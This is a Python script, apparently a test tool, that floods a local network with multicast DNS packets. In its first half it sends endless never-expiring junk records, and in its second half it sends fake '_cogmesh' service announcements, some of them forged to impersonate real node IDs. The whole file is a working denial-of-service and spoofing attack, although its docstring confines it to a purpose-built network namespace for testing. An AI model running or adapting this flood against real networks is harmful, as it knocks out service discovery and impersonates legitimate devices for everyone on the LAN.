"""Floods the LAN that it is on with mDNS records: mdns_flood.py SECONDS PACKETS_PER_SECOND ADDRESS FEDERATION ID...

ADDRESS is this host's own, FEDERATION the first 16 hex digits that the victims announce, and each ID is a real node's,
for which it forges records in the second half. Prints as JSON how many packets it sent. Only for a network namespace made for it.
"""

import base64
import json
import os
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
PTR, TXT, SRV, ADDRESS = 12, 16, 33, 1
FLUSH, FOREVER = 0x8001, 0xFFFFFFFF
# A burst, then a look at the clock.
BURST = 64
SERVICE = ("_cogmesh", "_udp", "local")


def name(*labels):
    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"


def record(owner, kind, data, flush=True):
    return owner + struct.pack("!HHIH", kind, FLUSH if flush else 1, FOREVER, len(data)) + data


def answers(*records):
    return struct.pack("!6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def service(number, instance, host, node, federation):
    full, home = name(instance, *SERVICE), name(host, "local")
    text = b"".join(bytes([len(t)]) + t for t in (b"v=1", b"id=" + node, b"fed=" + federation))
    place = bytes([10, 77, 200 + number // 200 % 50, 1 + number % 200])
    return answers(
        record(name(*SERVICE), PTR, full, flush=False),
        record(full, SRV, struct.pack("!HHH", 0, 0, 1024 + number % 60_000) + home),
        record(full, TXT, text),
        record(home, ADDRESS, place),
    )


def services(federation, nodes):
    """Distinct invented services, forged records of real nodes among them. These keep a daemon busy."""
    number = 0
    while True:
        number += 1
        if number % 16 == 0:
            real = nodes[number // 16 % len(nodes)]
            yield service(number, f"forged{number}-{real[:8]}", real[:8], real.encode(), federation)
        else:
            id_ = base64.b32encode(os.urandom(32)).decode().lower().rstrip("=")
            yield service(number, f"thor-{id_[:8]}", id_[:8], id_.encode(), federation)


def records():
    """Records that belong to no service and live for ever. These fill a daemon up."""
    number = 0
    while True:
        number += 1
        if number % 8 == 0:
            yield answers(record(name("again", "local"), ADDRESS, bytes([10, 77, 250, 1])))
        elif number % 8 == 1:
            yield answers(record(name(f"t{number}", "local"), TXT, bytes([200]) + b"x" * 200))
        else:
            yield answers(record(name(f"a{number}", "local"), ADDRESS, bytes([10, 77, 251, number % 250])))


seconds, per_second, own = float(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
out.bind((own, 5353))
first, then = records(), services(sys.argv[4].encode(), sys.argv[5:])
begun, sent = time.monotonic(), 0
while (passed := time.monotonic() - begun) < seconds:
    if sent > passed * per_second:
        time.sleep(0.002)
        continue
    source = first if passed < seconds / 2 else then
    for _ in range(BURST):
        try:
            out.sendto(next(source), GROUP)
        except OSError:
            break
        sent += 1
print(json.dumps({"sent": sent, "seconds": round(passed, 1)}))
